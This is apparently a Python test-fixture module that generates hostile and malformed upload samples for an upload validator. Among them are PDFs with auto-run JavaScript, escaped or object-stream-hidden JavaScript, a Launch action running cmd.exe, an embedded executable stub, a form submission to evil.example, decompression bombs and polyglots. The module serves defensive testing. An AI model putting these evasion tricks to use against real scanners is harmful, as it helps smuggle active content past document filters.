"""Builders for sample and hostile uploads, generated in memory (no committed binaries).

Every builder returns the bytes of one file. The PDFs are written by hand with correct
cross-reference offsets so that a real parser (pypdf) reads the valid ones.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

# -- PDF -------------------------------------------------------------------------------------


def stream_obj(entries: bytes, data: bytes) -> bytes:
    return b"<< " + entries + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def build_pdf(
    objects: dict[int, bytes],
    *,
    root: int = 1,
    trailer_extra: bytes = b"",
    version: bytes = b"1.4",
) -> bytes:
    """A PDF with a classic xref table; ``objects`` maps object number to its body."""
    out = bytearray(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for num in sorted(objects):
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + objects[num] + b"\nendobj\n"
    size = max(objects) + 1
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for num in range(1, size):
        if num in offsets:
            out += b"%010d 00000 n \n" % offsets[num]
        else:
            out += b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root %d 0 R %s >>\n" % (size, root, trailer_extra)
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def _pdf_string(text: str) -> bytes:
    raw = text.encode("latin-1")
    return b"(" + raw.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)") + b")"


def text_pdf(
    lines: list[str] | None = None,
    *,
    catalog_extra: bytes = b"",
    page_extra: bytes = b"",
    extra_objects: dict[int, bytes] | None = None,
    trailer_extra: bytes = b"",
) -> bytes:
    """A one-page PDF showing ``lines`` (Latin-1 text, Helvetica)."""
    lines = lines if lines is not None else ["Hello, Bolashak."]
    ops = [b"BT /F1 12 Tf 14 TL 72 760 Td"]
    for line in lines:
        ops.append(_pdf_string(line) + b" Tj T*")
    ops.append(b"ET")
    content = b"\n".join(ops)
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> " + page_extra + b">>",
        4: stream_obj(b"", content),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }
    objects.update(extra_objects or {})
    return build_pdf(objects, trailer_extra=trailer_extra)


def cyrillic_pdf(lines: list[str]) -> bytes:
    """A PDF with a Cyrillic text layer: a Type0 font whose ToUnicode CMap maps 2-byte codes
    straight to Unicode code points (enough for text extraction; nothing is drawn well)."""
    chars = sorted({c for line in lines for c in line})
    bfchars = b"\n".join(b"<%04X> <%04X>" % (ord(c), ord(c)) for c in chars)
    cmap = (
        b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap\n"
        b"/CIDSystemInfo << /Registry (Adobe) /Ordering (UCS) /Supplement 0 >> def\n"
        b"/CMapName /Adobe-Identity-UCS def /CMapType 2 def\n"
        b"1 begincodespacerange <0000> <FFFF> endcodespacerange\n"
        + b"%d beginbfchar\n" % len(chars)
        + bfchars
        + b"\nendbfchar\nendcmap CMapName currentdict /CMap defineresource pop end end"
    )
    ops = [b"BT /F1 12 Tf 14 TL 72 760 Td"]
    for line in lines:
        ops.append(b"<" + "".join(f"{ord(c):04X}" for c in line).encode() + b"> Tj T*")
    ops.append(b"ET")
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        4: stream_obj(b"", b"\n".join(ops)),
        5: b"<< /Type /Font /Subtype /Type0 /BaseFont /Arial /Encoding /Identity-H "
        b"/DescendantFonts [6 0 R] /ToUnicode 7 0 R >>",
        6: b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /Arial "
        b"/CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> "
        b"/DW 600 >>",
        7: stream_obj(b"", cmap),
    }
    return build_pdf(objects)


def image_only_pdf() -> bytes:
    """A 'scanned' page: one image, no text layer."""
    pixels = zlib.compress(b"\x80" * 16)
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /XObject << /Im1 5 0 R >> >> >>",
        4: stream_obj(b"", b"q 595 0 0 842 0 0 cm /Im1 Do Q"),
        5: stream_obj(
            b"/Type /XObject /Subtype /Image /Width 4 /Height 4 /ColorSpace /DeviceGray "
            b"/BitsPerComponent 8 /Filter /FlateDecode",
            pixels,
        ),
    }
    return build_pdf(objects)


def javascript_pdf() -> bytes:
    return text_pdf(
        catalog_extra=b"/OpenAction 6 0 R ",
        extra_objects={6: b"<< /Type /Action /S /JavaScript /JS (app.alert\\('hi'\\)) >>"},
    )


def escaped_javascript_pdf() -> bytes:
    """/J#61vaScript and /J#53 are /JavaScript and /JS to every PDF reader."""
    return text_pdf(
        catalog_extra=b"/Names << /J#61vaScript 6 0 R >> ",
        extra_objects={6: b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"},
    )


def launch_pdf() -> bytes:
    return text_pdf(
        catalog_extra=b"/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >> ",
    )


def embedded_file_pdf() -> bytes:
    return text_pdf(
        catalog_extra=b"/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >> ",
        extra_objects={
            6: b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>",
            7: stream_obj(b"/Type /EmbeddedFile", b"MZ\x90\x00"),
        },
    )


def additional_actions_pdf() -> bytes:
    return text_pdf(page_extra=b"/AA << /O << /S /SubmitForm /F (https://evil.example) >> >> ")


def open_action_view_pdf() -> bytes:
    """A harmless /OpenAction (open at page 1, fit to window): must be accepted."""
    return text_pdf(catalog_extra=b"/OpenAction [3 0 R /Fit] ")


def javascript_in_object_stream_pdf(*, hex_filter: bool = False) -> bytes:
    """PDF 1.5 with the JavaScript action only inside a compressed object stream, found via
    an xref stream; with ``hex_filter`` the object stream is ASCIIHex-encoded instead."""
    header = b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n"
    plain = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    }
    inner = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"
    objstm_header = b"4 0 "
    objstm_data = objstm_header + inner
    if hex_filter:
        encoded, filt = objstm_data.hex().encode() + b">", b"/ASCIIHexDecode"
    else:
        encoded, filt = zlib.compress(objstm_data), b"/FlateDecode"
    out = bytearray(header)
    offsets: dict[int, int] = {}
    for num, body in plain.items():
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + body + b"\nendobj\n"
    offsets[5] = len(out)
    out += (
        b"5 0 obj\n"
        + stream_obj(
            b"/Type /ObjStm /N 1 /First %d /Filter %s" % (len(objstm_header), filt), encoded
        )
        + b"\nendobj\n"
    )
    offsets[6] = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    for num in range(1, 7):
        if num == 4:
            rows.append(struct.pack(">BIH", 2, 5, 0))
        else:
            rows.append(struct.pack(">BIH", 1, offsets[num], 0))
    xref_data = zlib.compress(b"".join(rows))
    out += (
        b"6 0 obj\n"
        + stream_obj(b"/Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode", xref_data)
        + b"\nendobj\n"
    )
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[6]
    return bytes(out)


def encrypted_pdf() -> bytes:
    """RC4 40-bit 'Standard' security handler entries in the trailer (never decrypted)."""
    o = b"<" + b"28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A" + b">"
    u = b"<" + b"0" * 64 + b">"
    return text_pdf(
        extra_objects={6: b"<< /Filter /Standard /V 1 /R 2 /O " + o + b" /U " + u + b" /P -4 >>"},
        trailer_extra=b"/Encrypt 6 0 R /ID [<0123456789ABCDEF0123456789ABCDEF> "
        b"<0123456789ABCDEF0123456789ABCDEF>]",
    )


def truncated_pdf() -> bytes:
    data = text_pdf()
    return data[: len(data) // 2]


def polyglot_pdf_zip() -> bytes:
    return text_pdf() + zip_bytes()


def many_pages_pdf(pages: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % (10 + i) for i in range(pages))
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
    }
    for i in range(pages):
        objects[10 + i] = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
    return build_pdf(objects)


def flate_bomb_pdf(expanded: int) -> bytes:
    data = zlib.compress(b"\x00" * expanded, 9)
    return text_pdf(extra_objects={6: stream_obj(b"/Filter /FlateDecode", data)})


def string_mentions_javascript_pdf() -> bytes:
    """Names inside a text string or a comment are not names: must be accepted."""
    return text_pdf(
        ["See /JavaScript and /Launch in the manual."],
        extra_objects={6: b"<< /Title (About /JavaScript \\(and /JS\\)) >> % /Launch"},
    )


def binary_stream_with_js_bytes_pdf() -> bytes:
    """Image data that happens to contain the bytes '/JS ': must be accepted."""
    return text_pdf(
        extra_objects={
            6: stream_obj(
                b"/Type /XObject /Subtype /Image /Width 2 /Height 2 /ColorSpace /DeviceGray "
                b"/BitsPerComponent 8",
                b"/JS /Launch",
            )
        }
    )


# -- images ----------------------------------------------------------------------------------


def _png_chunk(ctype: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + ctype + body + struct.pack(">I", zlib.crc32(ctype + body))


def png_bytes(*, width: int = 1, height: int = 1, depth: int = 8, colour: int = 2) -> bytes:
    ihdr = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    row = b"\x00" + b"\xff\x00\x00" * width
    idat = zlib.compress(row * min(height, 4))
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", idat)
        + _png_chunk(b"IEND", b"")
    )


def png_bad_crc() -> bytes:
    data = bytearray(png_bytes())
    data[-13] ^= 0xFF  # last byte of the IDAT CRC
    return bytes(data)


def png_bad_ihdr() -> bytes:
    return png_bytes(depth=3, colour=2)  # RGB cannot have 3-bit samples


def jpeg_bytes(width: int = 1, height: int = 1) -> bytes:
    """A baseline greyscale JPEG; for 1x1 it decodes to one grey pixel."""
    dqt = b"\xff\xdb\x00\x43\x00" + b"\x01" * 64
    sof = b"\xff\xc0\x00\x0b\x08" + struct.pack(">HH", height, width) + b"\x01\x01\x11\x00"
    dht_dc = b"\xff\xc4\x00\x14\x00" + b"\x01" + b"\x00" * 15 + b"\x00"
    dht_ac = b"\xff\xc4\x00\x14\x10" + b"\x01" + b"\x00" * 15 + b"\x00"
    sos = b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00"
    scan = b"\x3f"  # DC diff 0 ('0'), AC end-of-block ('0'), padded with 1s
    return b"\xff\xd8" + dqt + sof + dht_dc + dht_ac + sos + scan + b"\xff\xd9"


def jpeg_without_eoi() -> bytes:
    return jpeg_bytes()[:-2]


# -- foreign files ---------------------------------------------------------------------------


def zip_bytes() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("payload.exe", b"MZ" + b"\x00" * 64)
    return buf.getvalue()


def elf_bytes() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 100


def pe_bytes() -> bytes:
    return b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 56 + b"This program cannot be run in DOS mode."


def html_bytes() -> bytes:
    return b"\xef\xbb\xbf<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"


def gif_bytes() -> bytes:
    return (
        b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff"
        b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
    )
